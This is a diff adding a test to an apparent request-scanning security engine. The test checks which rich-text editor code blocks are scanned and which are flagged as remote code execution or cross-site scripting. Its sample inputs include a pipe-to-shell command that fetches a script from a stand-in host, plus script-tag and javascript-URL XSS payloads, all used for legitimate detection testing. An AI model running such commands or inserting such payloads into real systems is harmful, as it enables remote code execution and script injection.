@@ -528,3 +528,85 @@ def test_a_language_models_input_is_text_for_it(engine: Engine) -> None:
         json.dumps(chat).encode(),
     )
     assert {hit.point for hit in engine.scan(request)} == {"query.user"}
+
+
+def test_a_rich_text_editors_code_is_shown_as_text(engine: Engine) -> None:
+    """A rich-text editor's code (a code block's text in a document, ADF's as Jira's API
+    takes it, TipTap's, Lexical's, Contentful's, Slack's; a block of Notion's, Draft.js's,
+    Editor.js's; a text marked as code) is rendered as text, as Markdown's fenced examples
+    are: not scanned. The same text in a paragraph, in a code node of no document, or in
+    a document's links, counts."""
+    command = "kubectl rollout restart deploy/api && curl -s https://get.example.com/ | sh"
+    markup = '<div onclick="dismiss()">Saved</div><script>alert(1)</script>'
+
+    def text(value: str, *marks: str) -> dict[str, object]:
+        return {"type": "text", "text": value, "marks": [{"type": mark} for mark in marks]}
+
+    def adf(*nodes: dict[str, object]) -> dict[str, object]:
+        return {"fields": {"description": {"version": 1, "type": "doc", "content": list(nodes)}}}
+
+    def block(kind: str, value: str) -> dict[str, object]:
+        return {"type": kind, "attrs": {"language": "bash"}, "content": [text(value)]}
+
+    def types(body: object) -> set[str]:
+        return {hit.type.value for hit in engine.scan(_post(json.dumps(body), JSON))}
+
+    paragraph = {"type": "paragraph", "content": [text("Run "), text(command, "code")]}
+    assert types(adf(block("codeBlock", command), block("codeBlock", markup), paragraph)) == set()
+    tiptap = {"type": "doc", "content": [block("code_block", markup)]}
+    lexical = {
+        "root": {
+            "type": "root",
+            "children": [
+                {"type": "code", "children": [{"type": "code-highlight", "text": command}]}
+            ],
+        }
+    }
+    contentful = {
+        "nodeType": "document",
+        "content": [
+            {
+                "nodeType": "paragraph",
+                "content": [{"nodeType": "text", "value": command, "marks": [{"type": "code"}]}],
+            }
+        ],
+    }
+    slack = {
+        "event": {
+            "blocks": [
+                {
+                    "type": "rich_text",
+                    "elements": [
+                        {
+                            "type": "rich_text_preformatted",
+                            "elements": [{"type": "text", "text": command}],
+                        }
+                    ],
+                }
+            ]
+        }
+    }
+    notion = {
+        "children": [
+            {
+                "object": "block",
+                "type": "code",
+                "code": {
+                    "language": "bash",
+                    "rich_text": [{"type": "text", "text": {"content": command}}],
+                },
+            }
+        ]
+    }
+    draft = {"blocks": [{"key": "a2", "text": command, "type": "code-block", "depth": 0}]}
+    editorjs = {"time": 1, "blocks": [{"id": "x1", "type": "code", "data": {"code": command}}]}
+    for body in (tiptap, lexical, contentful, slack, notion, draft, editorjs):
+        assert types(body) == set(), body
+    # Prose of the document, a code node in no document, a document's links: scanned.
+    assert types(adf({"type": "paragraph", "content": [text(command)]})) == {"rce"}
+    assert types({"type": "code", "text": command}) == {"rce"}
+    assert types({"content": [{"type": "codeBlock", "content": [text(command)]}]}) == {"rce"}
+    assert types({"marks": [{"type": "code"}], "text": command}) == {"rce"}
+    link = {"type": "link", "attrs": {"href": "javascript:alert(document.domain)"}}
+    linked = {"type": "text", "text": "docs", "marks": [{"type": "code"}, link]}
+    assert types(adf({"type": "paragraph", "content": [linked]})) == {"xss"}
